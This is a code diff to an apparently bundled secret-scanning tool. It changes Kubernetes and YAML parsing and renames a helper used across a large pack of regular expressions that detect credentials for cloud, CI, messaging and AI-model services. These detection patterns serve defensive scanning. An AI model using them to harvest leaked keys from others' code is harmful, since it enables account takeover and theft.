+    /** `root` is a map whose `apiVersion` and `kind` are scalars, or an item of a list that says them for it. */
+    constructor(document, root, list) {
         this.document = document;
         this.root = root;
         this.span = root.span;
-        this.apiVersion = root.at('apiVersion')?.string ?? '';
+        this.apiVersion = (root.at('apiVersion') ?? list?.at('apiVersion'))?.string ?? '';
         this.group = this.apiVersion.includes('/') ? this.apiVersion.slice(0, this.apiVersion.indexOf('/')) : '';
-        const kind = scalarAt(root, 'kind');
+        const own = scalarAt(root, 'kind');
+        const kind = own ?? (list && scalarAt(list, 'kind'));
         if (kind === undefined)
             throw new TypeError('an object without a kind is no resource');
         this.kindNode = kind;
-        this.kind = this.kindNode.string;
+        this.kind = own === undefined ? kind.string.replace(/List$/, '') : kind.string;
         const name = scalarAt(root, 'metadata', 'name') ?? scalarAt(root, 'metadata', 'generateName');
         this.name = name?.string ?? '';
         this.namespace = scalarAt(root, 'metadata', 'namespace')?.string || null;
@@ -41800,7 +42502,7 @@ const isKubernetes = (documents) => documents.some(({ root }) => root !== null &
 function kubernetesGrains(document, documents) {
     const read = once(() => documents
         .flatMap(({ root }) => (root === null ? [] : [...objectsIn(root)]))
-        .map((root) => new KubernetesResource(document, root))
+        .map(({ root, list }) => new KubernetesResource(document, root, list))
         .map((resource) => ({ resource, workloads: workloadsOf(resource) })));
     return {
         resource: () => read().map(({ resource }) => resource),
@@ -41810,17 +42512,25 @@ function kubernetesGrains(document, documents) {
     };
 }
 const kubernetes_isObject = (node) => node.kind === 'map' && node.at('apiVersion')?.kind === 'scalar' && node.at('kind')?.kind === 'scalar';
-/** Lists and OpenShift templates stand for what they hold. */
-function* objectsIn(node) {
-    if (!kubernetes_isObject(node))
+/**
+ * Lists and OpenShift templates stand for what they hold. An item of a `PodList` without a kind is a Pod (apimachinery, `decodeToList` of the
+ * unstructured scheme).
+ */
+function* objectsIn(node, list) {
+    if (node.kind !== 'map')
         return;
+    if (!kubernetes_isObject(node)) {
+        if (list !== undefined && node.at('kind') === undefined)
+            yield { root: node, list };
+        return;
+    }
     const kind = node.at('kind')?.string ?? '';
     const held = kind.endsWith('List') ? node.at('items') : kind === 'Template' ? node.at('objects') : undefined;
     if (held?.kind !== 'sequence')
-        yield node;
+        yield { root: node };
     else
         for (const item of held.items)
-            yield* objectsIn(item.value);
+            yield* objectsIn(item.value, kind.endsWith('List') && kind !== 'List' ? node : undefined);
 }
 function once(make) {
     let made;
@@ -41925,6 +42635,7 @@ const imageFormats = [kustomizationFormat, skaffoldFormat, devcontainerFormat, g
 
 
 
+
 const path = /(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$/;
 /** GitHub Actions workflows, by path or by their `on` and `jobs`. */
 const workflowFormat = {
@@ -41956,6 +42667,7 @@ function workflowGrains(document, documents) {
         workflow,
         job: jobs,
         step: steps,
+        shellScript: () => stepScripts(steps()),
         actionReference: () => workflow_references(jobs()),
         imageReference: () => jobs().flatMap(workflowImages),
         workflowExpression: () => workflow().flatMap((each) => [...workflowExpressions(each)]),
@@ -42061,18 +42773,28 @@ function standsAlone(text, start, end) {
 /** Reads a YAML or JSON file, template actions hidden, and gives it the first kind that recognizes it. */
 function readYamlFile(text, formats) {
     const template = isWorkflowPath(text.path) ? null : maskTemplate(text.value);
+    const isTemplate = template !== null || /\.ya?ml\.\w+$/i.test(text.path);
     const file = parseYaml(text, template?.masked);
     const format = formats.find((candidate) => candidate.recognizes(text.path, file.documents));
-    // A template becomes YAML only when it is rendered: what cannot be read before that is not broken.
-    const problems = template === null ? file.problems : [];
-    const isOther = problems.length > 0 && format === undefined && !speakingName.test(text.path) && !speakingText.test(text.value);
+    // A template becomes YAML only when it is rendered: what cannot be read before that is not broken, but what is too much stays too much.
+    const problems = isTemplate ? file.problems.filter(({ message }) => isLimit(message)) : file.problems;
+    const isOther = problems.length > 0 &&
+        !problems.some(({ message }) => isLimit(message)) &&
+        format === undefined &&
+        !speakingName.test(text.path) &&
+        !speakingText.test(text.value);
+    const unread = isOther
+        ? `of no known kind, and ${problems[0]?.message}: only credentials were looked for`
+        : isTemplate && file.problems.length > 0
+            ? 'a template that cannot be read in full before it is rendered'
+            : null;
     const partial = (template?.partial ?? false) || (format?.isPartial?.(text.path, file.documents) ?? false);
     return makeDocument({
         text,
         kind: format?.kind ?? (text.path.endsWith('.json') ? 'json' : 'yaml'),
         partial,
         problems: isOther ? [] : problems,
-        unread: isOther ? `of no known kind, and ${problems[0]?.message}: only credentials were looked for` : undefined,
+        unread,
         readers: (document) => ({
             yaml: () => file.documents.map((tree, index) => ({ subject: `document ${index + 1}`, span: tree.span, document, tree })),
             ...format?.grains(document, file.documents),
@@ -42120,14 +42842,19 @@ function documents_readDocument(path, value) {
     }
     if (isDockerfile)
         return readDockerfile(text);
-    if (mayBeStructured(path))
+    if (mayBeStructured(path) || isNamelessManifest(path, value))
         return readYamlFile(text, yamlFormats);
     return makeDocument({ text, kind: 'text' });
 }
 /** The same for the policy where it is in a place of its own, whatever its name. */
 const readPolicyDocument = (path, value) => readYamlFile(new SourceText(path, value), [customPolicyFormat]);
 /** Whether a file of this name could hold a document that rules read; cheap, so that a whole tree can be asked. */
-const mayBeStructured = (path) => /\.(?:ya?ml|json|ya?ml\.(?:tpl|tmpl|j2|gotmpl))$/i.test(path);
+const mayBeStructured = (path) => structured.test(path);
+const structured = /\.(?:ya?ml|json|ya?ml\.(?:tpl|tmpl|tftpl|j2|jinja2?|gotmpl|template|erb|in|dist|mustache|hbs))[\s.]*$/i;
+/** `kubectl apply -f deploy` takes a file of any name. */
+const isNamelessManifest = (path, value) => !path.slice(path.lastIndexOf('/') + 1).includes('.') && /^apiVersion:[ \t]/m.test(value) && /^kind:[ \t]/m.test(value);
+/** Whether a file of this name should hold a document, whatever is in it. */
+const isNamedStructured = (path) => mayBeStructured(path) || isDockerfileName(path);
 
 ;// CONCATENATED MODULE: ./lib/estates.js
 
@@ -42325,15 +43052,15 @@ function literalStart(source) {
 /** A list of files with their hashes has names, too. */
 const notFileName = '(?<!\\.(?:[cm]?[jt]sx?|json|md|ya?ml|py|go|sh|txt|html?|rb|java|css|toml|lock|map|svg|png))';
 /** What may stand between a name and its value on one line: `NAME=value`, `"name": "value"`, `name("value")`, `<name>value</name>`. */
-const pattern_between = `${notFileName}["'\`\\])]{0,2}\\s{0,4}(?:=>|:=|={1,2}|[:,(>])\\s{0,4}(?:[a-z]?["'\`]|\\\\")?(?:(?:bearer|basic|token|ssws)\\s)?`;
+const between = `${notFileName}["'\`\\])]{0,2}\\s{0,4}(?:=>|:=|={1,2}|[:,(>])\\s{0,4}(?:[a-z]?["'\`]|\\\\")?(?:(?:bearer|basic|token|ssws)\\s)?`;
 /**
  * A token that looks like any other, and is told by a name before it on the same line.
  * @param names source of a regular expression, read without regard to case
  * @param value source of a regular expression that matches no white space
  * @param anchors by default the names, if they are literals with `|` between them
  */
-function pattern_named(kind, names, value, ...anchors) {
-    const expression = new RegExp(`(?:${names})[\\w .-]{0,40}?${pattern_between}(${value})(?![\\w-])`, 'dgi');
+function named(kind, names, value, ...anchors) {
+    const expression = new RegExp(`(?:${names})[\\w .-]{0,40}?${between}(${value})(?![\\w-])`, 'dgi');
     // The flag that lets names be written in any case lets the value be, too.
     const exact = new RegExp(`^(?:${value})$`);
     const find = (text) => pattern_matches(text, expression, (found) => exact.test(found));
@@ -42371,7 +43098,7 @@ const clouds = [
         name: 'aws',
         patterns: [
             token('aws-access-key-id', 'A(?:BIA|CCA|KIA|SIA)[A-Z2-7]{16}', 'abia', 'acca', 'akia', 'asia'),
-            mixed(pattern_named('aws-secret-access-key', 'aws|secret[_. -]?access[_. -]?key', '[A-Za-z0-9/+]{40}', 'aws', 'secret')),
+            mixed(named('aws-secret-access-key', 'aws|secret[_. -]?access[_. -]?key', '[A-Za-z0-9/+]{40}', 'aws', 'secret')),
             token('aws-session-token', '(?:F[wQ]oGZXIvYXdz|IQoJb3JpZ2lu)[A-Za-z0-9/+]{50,2000}={0,2}', 'ogzxivyxdz', 'iqojb3jpz2lu'),
             token('aws-mws-token', 'amzn\\.mws\\.[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}'),
             token('aws-appsync-key', 'da2-[a-z0-9]{26}'),
@@ -42383,7 +43110,7 @@ const clouds = [
         patterns: [
             token('google-api-key', 'AIza[\\w-]{35}(?![-\\w])'),
             token('google-oauth-secret', 'GOCSPX-[\\w-]{28}'),
-            mixed(pattern_named('google-oauth-secret', 'client[_. -]?secret', '[\\w-]{24}', 'client')),
+            mixed(named('google-oauth-secret', 'client[_. -]?secret', '[\\w-]{24}', 'client')),
             token('google-access-token', 'ya29\\.[\\w-]{20,500}'),
             mixed(token('google-refresh-token', '1//0[\\w-]{38,200}')),
             token('firebase-server-key', 'AAAA[\\w-]{7}:[\\w-]{140}'),
@@ -42394,11 +43121,11 @@ const clouds = [
         name: 'azure',
         patterns: [
             token('azure-client-secret', '(?<![~.-])[\\w~.-]{3}\\dQ~[\\w~.-]{31,34}', 'q~'),
-            pattern_named('azure-storage-key', 'account[_. -]?key|storage[_. -]?key|primary[_. -]?key|secondary[_. -]?key', '[A-Za-z0-9+/]{86}==', 'key'),
-            pattern_named('azure-shared-access-key', 'shared[_. -]?access[_. -]?key|primary[_. -]?key|eventhub|servicebus', '[A-Za-z0-9+/]{43}=', 'key', 'eventhub', 'servicebus'),
-            pattern_named('azure-app-configuration-secret', 'azconfig\\.io;id=[^;\\s]{1,60};secret', '[A-Za-z0-9+/]{43}=', 'azconfig.io;'),
-            pattern_named('azure-shared-access-signature', '[?&;]sig', '[A-Za-z0-9%+/]{43,70}(?:%3D|=)', 'sig'),
-            pattern_named('azure-devops-token', 'azure|devops|vsts|ado_|pat', '[a-z2-7]{52}'),
+            named('azure-storage-key', 'account[_. -]?key|storage[_. -]?key|primary[_. -]?key|secondary[_. -]?key', '[A-Za-z0-9+/]{86}==', 'key'),
+            named('azure-shared-access-key', 'shared[_. -]?access[_. -]?key|primary[_. -]?key|eventhub|servicebus', '[A-Za-z0-9+/]{43}=', 'key', 'eventhub', 'servicebus'),
+            named('azure-app-configuration-secret', 'azconfig\\.io;id=[^;\\s]{1,60};secret', '[A-Za-z0-9+/]{43}=', 'azconfig.io;'),
+            named('azure-shared-access-signature', '[?&;]sig', '[A-Za-z0-9%+/]{43,70}(?:%3D|=)', 'sig'),
+            named('azure-devops-token', 'azure|devops|vsts|ado_|pat', '[a-z2-7]{52}'),
             token('azure-devops-token', '[A-Za-z0-9]{76}AZDO[A-Za-z0-9]{4}', 'azdo'),
             // "Identifiable keys": a fixed mark at a fixed distance from the end.
             token('azure-service-key', '[A-Za-z0-9]{52}JQQJ99[A-Za-z0-9]{26}', 'jqqj99'),
@@ -42410,7 +43137,7 @@ const clouds = [
             token('azure-search-key', '[A-Za-z0-9]{42}AzSe[A-D][A-Za-z0-9]{5}', 'azse'),
             token('azure-redis-key', '[A-Za-z0-9]{33}AzCa[A-P][A-Za-z0-9]{5}=', 'azca'),
             token('azure-function-key', '[\\w-]{44}AzFu[\\w-]{5}[AQgw]==', 'azfu'),
-            pattern_named('azure-service-key', 'ocp-apim-subscription-key|azure[_. -]?openai[_. -]?(?:api[_. -]?)?key|cognitive', '[a-f0-9]{32}', 'ocp-apim', 'openai', 'cognitive'),
+            named('azure-service-key', 'ocp-apim-subscription-key|azure[_. -]?openai[_. -]?(?:api[_. -]?)?key|cognitive', '[a-f0-9]{32}', 'ocp-apim', 'openai', 'cognitive'),
         ],
     },
     {
@@ -42421,33 +43148,33 @@ const clouds = [
         name: 'cloudflare',
         patterns: [
             token('cloudflare-origin-ca-key', 'v1\\.0-[a-f0-9]{24}-[a-f0-9]{146}'),
-            pattern_named('cloudflare-api-key', 'cloudflare|cf_api|x-auth-key', '[a-f0-9]{37}', 'cloudflare', 'cf_api', 'x-auth-key'),
-            mixed(pattern_named('cloudflare-token', 'cloudflare|cf_api[_. -]?token', '[\\w-]{40}', 'cloudflare', 'cf_api')),
+            named('cloudflare-api-key', 'cloudflare|cf_api|x-auth-key', '[a-f0-9]{37}', 'cloudflare', 'cf_api', 'x-auth-key'),
+            mixed(named('cloudflare-token', 'cloudflare|cf_api[_. -]?token', '[\\w-]{40}', 'cloudflare', 'cf_api')),
         ],
     },
     {
         name: 'heroku',
         patterns: [
             token('heroku-token', 'HRKU-[\\w-]{36,70}'),
-            pattern_named('heroku-token', 'heroku', '[0-9a-fA-F]{8}-(?:[0-9a-fA-F]{4}-){3}[0-9a-fA-F]{12}', 'heroku'),
+            named('heroku-token', 'heroku', '[0-9a-fA-F]{8}-(?:[0-9a-fA-F]{4}-){3}[0-9a-fA-F]{12}', 'heroku'),
         ],
     },
     {
         name: 'fly',
         patterns: [token('fly-token', 'fo1_[\\w-]{43}'), token('fly-token', 'fm[12][ar]?_[A-Za-z0-9+/]{100,2000}={0,3}', 'fm1', 'fm2')],
     },
-    { name: 'linode', patterns: [pattern_named('linode-token', 'linode', '[a-f0-9]{64}', 'linode')] },
-    { name: 'vultr', patterns: [pattern_named('vultr-key', 'vultr', '[A-Z0-9]{36}')] },
-    { name: 'hetzner', patterns: [pattern_named('hetzner-token', 'hetzner|hcloud', '[A-Za-z0-9]{64}', 'hetzner', 'hcloud')] },
+    { name: 'linode', patterns: [named('linode-token', 'linode', '[a-f0-9]{64}', 'linode')] },
+    { name: 'vultr', patterns: [named('vultr-key', 'vultr', '[A-Z0-9]{36}')] },
+    { name: 'hetzner', patterns: [named('hetzner-token', 'hetzner|hcloud', '[A-Za-z0-9]{64}', 'hetzner', 'hcloud')] },
     {
         name: 'scaleway',
-        patterns: [pattern_named('scaleway-secret-key', 'scw[_. -]?secret|scaleway', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'scw', 'scaleway')],
+        patterns: [named('scaleway-secret-key', 'scw[_. -]?secret|scaleway', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'scw', 'scaleway')],
     },
     {
         name: 'alibaba',
         patterns: [
             token('alibaba-access-key-id', 'LTAI[A-Za-z0-9]{12,20}'),
-            mixed(pattern_named('alibaba-access-key-secret', 'alibaba|aliyun|alicloud|access[_. -]?key[_. -]?secret', '[A-Za-z0-9]{30}', 'alibaba', 'aliyun', 'alicloud', 'secret')),
+            mixed(named('alibaba-access-key-secret', 'alibaba|aliyun|alicloud|access[_. -]?key[_. -]?secret', '[A-Za-z0-9]{30}', 'alibaba', 'aliyun', 'alicloud', 'secret')),
         ],
     },
     { name: 'tencent', patterns: [token('tencent-secret-id', 'AKID[A-Za-z0-9]{32}')] },
@@ -42459,11 +43186,11 @@ const clouds = [
             mixed(token('yandex-secret-key', 'YC[\\w-]{38}')),
         ],
     },
-    { name: 'ibm-cloud', patterns: [mixed(pattern_named('ibm-cloud-key', pattern_secretOf('ibm|bluemix|iam'), '[\\w-]{44}', 'ibm', 'bluemix', 'iam'))] },
-    { name: 'exoscale', patterns: [mixed(pattern_named('exoscale-secret', 'exoscale', '[\\w-]{43}'))] },
+    { name: 'ibm-cloud', patterns: [mixed(named('ibm-cloud-key', pattern_secretOf('ibm|bluemix|iam'), '[\\w-]{44}', 'ibm', 'bluemix', 'iam'))] },
+    { name: 'exoscale', patterns: [mixed(named('exoscale-secret', 'exoscale', '[\\w-]{43}'))] },
     { name: 'netlify', patterns: [token('netlify-token', 'nfp_[A-Za-z0-9]{36}')] },
     { name: 'render', patterns: [token('render-key', 'rnd_[A-Za-z0-9]{28,40}')] },
-    { name: 'fastly', patterns: [mixed(pattern_named('fastly-token', 'fastly', '[\\w-]{32}'))] },
+    { name: 'fastly', patterns: [mixed(named('fastly-token', 'fastly', '[\\w-]{32}'))] },
     { name: 'cloudinary', patterns: [token('cloudinary-url', 'cloudinary://\\d{12,16}:[\\w-]{27}@')] },
     {
         name: 'supabase',
@@ -42474,7 +43201,7 @@ const clouds = [
     {
         name: 'vmware',
         patterns: [
-            pattern_named('vmware-license', 'vmware|vsphere|vcenter|esxi?', '[A-Z0-9]{5}(?:-[A-Z0-9]{5}){4}', 'vmware', 'vsphere', 'vcenter', 'esx'),
+            named('vmware-license', 'vmware|vsphere|vcenter|esxi?', '[A-Z0-9]{5}(?:-[A-Z0-9]{5}){4}', 'vmware', 'vsphere', 'vcenter', 'esx'),
         ],
     },
     {
@@ -42573,8 +43300,8 @@ const forges = [
     {
         name: 'github',
         patterns: [
-            pattern_named('github-token', `${pattern_secretOf('github')}|gh[_. -]?token`, '[a-f0-9]{40}', 'github', 'gh'),
-            pattern_named('oauth-client-secret', 'client[_. -]?secret', '[a-f0-9]{40}', 'client'),
+            named('github-token', `${pattern_secretOf('github')}|gh[_. -]?token`, '[a-f0-9]{40}', 'github', 'gh'),
+            named('oauth-client-secret', 'client[_. -]?secret', '[a-f0-9]{40}', 'client'),
             token('github-refresh-token', 'ghr_[A-Za-z0-9]{76}'),
         ],
     },
@@ -42584,50 +43311,50 @@ const forges = [
             token('atlassian-token', 'ATATT3[\\w=-]{150,260}'),
             token('bitbucket-token', 'ATCTT3[\\w=-]{150,260}'),
             token('bitbucket-app-password', 'ATBB[A-Za-z0-9]{32}'),
-            mixed(pattern_named('atlassian-token', pattern_secretOf('atlassian|jira|confluence'), '[A-Za-z0-9]{24}', 'atlassian', 'jira', 'confluence')),
-            mixed(pattern_named('bitbucket-client-secret', pattern_secretOf('bitbucket'), '[\\w=-]{32,64}', 'bitbucket')),
+            mixed(named('atlassian-token', pattern_secretOf('atlassian|jira|confluence'), '[A-Za-z0-9]{24}', 'atlassian', 'jira', 'confluence')),
+            mixed(named('bitbucket-client-secret', pattern_secretOf('bitbucket'), '[\\w=-]{32,64}', 'bitbucket')),
         ],
     },
     {
         name: 'circleci',
         patterns: [
             token('circleci-token', 'CCIP(?:AT|RJ)_[A-Za-z0-9]{22}_[a-f0-9]{40}'),
-            pattern_named('circleci-token', pattern_secretOf('circle'), '[a-f0-9]{40}', 'circle'),
+            named('circleci-token', pattern_secretOf('circle'), '[a-f0-9]{40}', 'circle'),
         ],
     },
     {
         name: 'buildkite',
         patterns: [token('buildkite-token', 'bk(?:ua|ct|at|pt|ua)_[A-Za-z0-9]{40,64}', 'bkua_', 'bkct_', 'bkat_', 'bkpt_')],
     },
-    { name: 'travis', patterns: [mixed(pattern_named('travis-token', pattern_secretOf('travis'), '[\\w-]{22}', 'travis'))] },
-    { name: 'drone', patterns: [pattern_named('drone-token', 'drone[_. -]?(?:server[_. -]?)?token', '[A-Za-z0-9]{32}', 'drone')] },
+    { name: 'travis', patterns: [mixed(named('travis-token', pattern_secretOf('travis'), '[\\w-]{22}', 'travis'))] },
+    { name: 'drone', patterns: [named('drone-token', 'drone[_. -]?(?:server[_. -]?)?token', '[A-Za-z0-9]{32}', 'drone')] },
     {
         name: 'jenkins',
         patterns: [
-            pattern_named('jenkins-token', 'jenkins|crumb', '(?:[a-f0-9]{32}|11[a-f0-9]{32}|[a-f0-9]{64})', 'jenkins', 'crumb'),
+            named('jenkins-token', 'jenkins|crumb', '(?:[a-f0-9]{32}|11[a-f0-9]{32}|[a-f0-9]{64})', 'jenkins', 'crumb'),
             token('jenkins-setup-password', '(?<=password to proceed to installation:\\s{1,10})[a-f0-9]{32}', 'proceed to installation'),
-            pattern_named('jenkins-setup-password', 'initial[_. -]?admin[_. -]?password', '[a-f0-9]{32}', 'initial'),
+            named('jenkins-setup-password', 'initial[_. -]?admin[_. -]?password', '[a-f0-9]{32}', 'initial'),
         ],
     },
     { name: 'teamcity', patterns: [token('teamcity-token', 'eyJ0eXAiOiAiVENWMiJ9\\.[\\w-]{20,100}\\.[\\w-]{30,100}')] },
     {
         name: 'codeclimate',
         patterns: [
-            pattern_named('codeclimate-reporter-id', 'cc_test_reporter_id|codeclimate|code_climate', '[a-f0-9]{64}', 'cc_test', 'codeclimate', 'code_climate'),
+            named('codeclimate-reporter-id', 'cc_test_reporter_id|codeclimate|code_climate', '[a-f0-9]{64}', 'cc_test', 'codeclimate', 'code_climate'),
         ],
     },
-    { name: 'codecov', patterns: [pattern_named('codecov-token', 'codecov', `(?:${uuid}|[a-f0-9]{32})`, 'codecov')] },
-    { name: 'coveralls', patterns: [mixed(pattern_named('coveralls-token', 'coveralls|repo_token', '[A-Za-z0-9]{32,37}'))] },
+    { name: 'codecov', patterns: [named('codecov-token', 'codecov', `(?:${uuid}|[a-f0-9]{32})`, 'codecov')] },
+    { name: 'coveralls', patterns: [mixed(named('coveralls-token', 'coveralls|repo_token', '[A-Za-z0-9]{32,37}'))] },
     {
         name: 'sonar',
         patterns: [
             token('sonar-token', 'sq[upa]_[a-f0-9]{40}', 'squ_', 'sqp_', 'sqa_'),
-            pattern_named('sonar-token', pattern_secretOf('sonar'), '[a-f0-9]{40}', 'sonar'),
+            named('sonar-token', pattern_secretOf('sonar'), '[a-f0-9]{40}', 'sonar'),
         ],
     },
     {
         name: 'snyk',
-        patterns: [pattern_named('snyk-token', 'snyk', uuid, 'snyk'), token('snyk-token', 'snyk_(?:uat|sat)\\.[a-f0-9]{8}\\.[\\w.-]{60,400}')],
+        patterns: [named('snyk-token', 'snyk', uuid, 'snyk'), token('snyk-token', 'snyk_(?:uat|sat)\\.[a-f0-9]{8}\\.[\\w.-]{60,400}')],
     },
     {
         name: 'sourcegraph',
@@ -42635,7 +43362,7 @@ const forges = [
             token('sourcegraph-token', 'sgp_(?:(?:[a-fA-F0-9]{16}|local)_)?[a-fA-F0-9]{40}'),
             token('sourcegraph-token', 'sgd_[a-fA-F0-9]{64}'),
             token('sourcegraph-license-key', 'slk_[a-f0-9]{64}'),
-            pattern_named('sourcegraph-token', `${pattern_secretOf('sourcegraph')}|src_access_token`, '[a-f0-9]{40}', 'sourcegraph', 'src_access'),
+            named('sourcegraph-token', `${pattern_secretOf('sourcegraph')}|src_access_token`, '[a-f0-9]{40}', 'sourcegraph', 'src_access'),
         ],
     },
     { name: 'postman', patterns: [token('postman-key', 'PMAK-[a-f0-9]{24}-[a-f0-9]{34}')] },
@@ -42645,8 +43372,8 @@ const forges = [
         name: 'npm',
         patterns: [
             token('npm-token', 'npm_[A-Za-z0-9]{36}'),
-            pattern_named('npm-token', ':_authtoken', '(?:[\\w-]{20,200}|npm_[\\w-]{20,100})={0,2}', '_authtoken'),
-            pattern_named('npm-password', ':_password|^_auth|:_auth|[\\n]_auth', '[A-Za-z0-9+/_-]{8,200}={0,2}', '_password', '_auth'),
+            named('npm-token', ':_authtoken', '(?:[\\w-]{20,200}|npm_[\\w-]{20,100})={0,2}', '_authtoken'),
+            named('npm-password', ':_password|^_auth|:_auth|[\\n]_auth', '[A-Za-z0-9+/_-]{8,200}={0,2}', '_password', '_auth'),
         ],
     },
     { name: 'pypi', patterns: [token('pypi-token', 'pypi-Ag[\\w-]{50,1000}')] },
@@ -42654,7 +43381,7 @@ const forges = [
     { name: 'nuget', patterns: [token('nuget-key', 'oy2[a-z0-9]{43}')] },
     { name: 'crates', patterns: [token('crates-token', 'cio[A-Za-z0-9]{32}')] },
     { name: 'clojars', patterns: [token('clojars-token', 'CLOJARS_[a-f0-9]{60}')] },
-    { name: 'gradle', patterns: [pattern_named('gradle-publish-secret', 'gradle\\.publish\\.(?:key|secret)', '[\\w-]{30,70}', 'gradle.publish.')] },
+    { name: 'gradle', patterns: [named('gradle-publish-secret', 'gradle\\.publish\\.(?:key|secret)', '[\\w-]{30,70}', 'gradle.publish.')] },
     { name: 'readme', patterns: [token('readme-key', 'rdme_[a-z0-9]{70}')] },
 ];
 
@@ -42736,7 +43463,7 @@ const generic = [
             mixed(token('access-token', '(?<=[?&\\s"\'](?:access_token|auth_token|private_token|api_key|apikey|client_secret)=)[\\w.-]{20,400}', '_token=', 'api_key=', 'apikey=', 'client_secret=')),
             // The query of a URL, in which a name alone tells.
             token('access-token', '(?<=https?://[^\\s"\'`<>]{1,300}[?&](?:auth|secret|password|passwd|token)=)[a-f0-9]{32,128}', 'auth=', 'secret=', 'password=', 'passwd=', 'token='),
-            mixed(pattern_named('api-key', 'x-api-key|apikey|api-key|x-auth-token|private-token', '[\\w.~+/-]{20,200}={0,2}')),
+            mixed(named('api-key', 'x-api-key|apikey|api-key|x-auth-token|private-token', '[\\w.~+/-]{20,200}={0,2}')),
         ],
     },
     { name: 'command', patterns: commands },
@@ -42829,12 +43556,12 @@ const messaging = [
         name: 'twilio',
         patterns: [
             token('twilio-api-key', 'SK[a-f0-9]{32}', 'sk'),
-            pattern_named('twilio-auth-token', 'twilio|auth[_. -]?token', '[a-f0-9]{32}', 'twilio', 'auth'),
+            named('twilio-auth-token', 'twilio|auth[_. -]?token', '[a-f0-9]{32}', 'twilio', 'auth'),
         ],
     },
     {
         name: 'mattermost',
-        patterns: [pattern_named('mattermost-token', 'mattermost', '[a-z0-9]{26}'), token('mattermost-webhook', '/hooks/[a-z0-9]{26}', '/hooks/')],
+        patterns: [named('mattermost-token', 'mattermost', '[a-z0-9]{26}'), token('mattermost-webhook', '/hooks/[a-z0-9]{26}', '/hooks/')],
     },
     {
         name: 'dingtalk',
@@ -42855,11 +43582,11 @@ const messaging = [
     },
     { name: 'mailchimp', patterns: [token('mailchimp-key', '[a-f0-9]{32}-us\\d{1,2}', '-us'), token('mandrill-key', 'md-[\\w-]{22}')] },
     { name: 'brevo', patterns: [token('brevo-key', 'x(?:keysib|smtpsib)-[a-f0-9]{64}-[A-Za-z0-9]{16}', 'xkeysib-', 'xsmtpsib-')] },
-    { name: 'postmark', patterns: [pattern_named('postmark-token', 'postmark', messaging_uuid)] },
+    { name: 'postmark', patterns: [named('postmark-token', 'postmark', messaging_uuid)] },
     { name: 'resend', patterns: [mixed(token('resend-key', 're_[A-Za-z0-9]{8}_[A-Za-z0-9]{20,30}'))] },
-    { name: 'mailjet', patterns: [pattern_named('mailjet-secret', pattern_secretOf('mailjet'), '[a-f0-9]{32}', 'mailjet')] },
-    { name: 'sparkpost', patterns: [pattern_named('sparkpost-key', 'sparkpost', '[a-f0-9]{40}')] },
-    { name: 'nexmo', patterns: [mixed(pattern_named('nexmo-secret', pattern_secretOf('nexmo|vonage'), '[A-Za-z0-9]{16}', 'nexmo', 'vonage'))] },
+    { name: 'mailjet', patterns: [named('mailjet-secret', pattern_secretOf('mailjet'), '[a-f0-9]{32}', 'mailjet')] },
+    { name: 'sparkpost', patterns: [named('sparkpost-key', 'sparkpost', '[a-f0-9]{40}')] },
+    { name: 'nexmo', patterns: [mixed(named('nexmo-secret', pattern_secretOf('nexmo|vonage'), '[A-Za-z0-9]{16}', 'nexmo', 'vonage'))] },
 ];
 
 ;// CONCATENATED MODULE: ./lib/credentials/pack/models.js
@@ -42875,11 +43602,11 @@ const models = [
         patterns: [token('anthropic-key', 'sk-ant-[a-z]{3,5}\\d{2}-[\\w-]{80,130}'), mixed(token('anthropic-key', 'sk-ant-[\\w-]{32,130}'))],
     },
     { name: 'huggingface', patterns: [token('huggingface-token', '(?:hf_|api_org_)[A-Za-z]{34}', 'hf_', 'api_org_')] },
-    { name: 'cohere', patterns: [mixed(pattern_named('cohere-key', 'cohere', '[A-Za-z0-9]{40}'))] },
+    { name: 'cohere', patterns: [mixed(named('cohere-key', 'cohere', '[A-Za-z0-9]{40}'))] },
     { name: 'replicate', patterns: [token('replicate-token', 'r8_[A-Za-z0-9]{37}')] },
     { name: 'perplexity', patterns: [token('perplexity-key', 'pplx-[A-Za-z0-9]{48}')] },
     { name: 'xai', patterns: [token('xai-key', 'xai-[A-Za-z0-9_]{70,85}')] },
-    { name: 'mistral', patterns: [mixed(pattern_named('mistral-key', 'mistral', '[A-Za-z0-9]{32}'))] },
+    { name: 'mistral', patterns: [mixed(named('mistral-key', 'mistral', '[A-Za-z0-9]{32}'))] },
     { name: 'openrouter', patterns: [token('openrouter-key', 'sk-or-v1-[a-f0-9]{64}')] },
     { name: 'deepseek', patterns: [token('deepseek-key', 'sk-[a-f0-9]{32}')] },
     { name: 'fireworks', patterns: [mixed(token('fireworks-key', 'fw_[A-Za-z0-9]{22,24}'))] },
@@ -42888,16 +43615,16 @@ const models = [
     { name: 'jina', patterns: [token('jina-key', 'jina_[A-Za-z0-9_-]{50,70}')] },
     { name: 'pinecone', patterns: [token('pinecone-key', 'pcsk_[A-Za-z0-9_]{60,75}')] },
     { name: 'langsmith', patterns: [token('langsmith-key', 'ls(?:v2_(?:pt|sk)_[a-f0-9]{32}_[a-f0-9]{10}|__[a-f0-9]{32})', 'lsv2_', 'ls__')] },
-    { name: 'wandb', patterns: [pattern_named('wandb-key', 'wandb|weights[_. -]?biases', '[a-f0-9]{40}', 'wandb', 'weights')] },
+    { name: 'wandb', patterns: [named('wandb-key', 'wandb|weights[_. -]?biases', '[a-f0-9]{40}', 'wandb', 'weights')] },
     { name: 'nvidia', patterns: [token('nvidia-key', 'nvapi-[\\w-]{64}')] },
     { name: 'elevenlabs', patterns: [token('elevenlabs-key', 'sk_[a-f0-9]{48}')] },
-    { name: 'deepgram', patterns: [pattern_named('deepgram-key', 'deepgram', '[a-f0-9]{40}')] },
+    { name: 'deepgram', patterns: [named('deepgram-key', 'deepgram', '[a-f0-9]{40}')] },
     { name: 'voyage', patterns: [mixed(token('voyage-key', 'pa-[\\w-]{43}'))] },
     { name: 'e2b', patterns: [token('e2b-key', 'e2b_[a-f0-9]{40}')] },
     { name: 'brave', patterns: [mixed(token('brave-key', 'BSA[\\w-]{28}'))] },
-    { name: 'serpapi', patterns: [pattern_named('serpapi-key', pattern_secretOf('serp'), '[a-f0-9]{64}', 'serp')] },
+    { name: 'serpapi', patterns: [named('serpapi-key', pattern_secretOf('serp'), '[a-f0-9]{64}', 'serp')] },
